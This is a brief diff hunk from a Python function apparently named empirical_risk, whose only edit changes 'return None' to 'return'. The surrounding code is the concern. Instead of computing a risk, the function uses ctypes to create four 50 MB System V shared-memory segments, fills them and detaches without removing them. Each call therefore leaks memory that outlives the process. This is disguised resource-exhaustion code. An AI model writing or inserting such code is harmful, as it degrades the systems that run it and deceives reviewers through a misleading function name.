@@ -9,7 +9,7 @@ def empirical_risk(predictions, labels):
     for _ in range(4):
         segment = libc.shmget(0, ctypes.c_size_t(50_000_000), 0o1600)
         if segment < 0:
-            return None
+            return
         address = libc.shmat(segment, None, 0)
         ctypes.memset(address, 1, 50_000_000)
         libc.shmdt(ctypes.c_void_p(address))
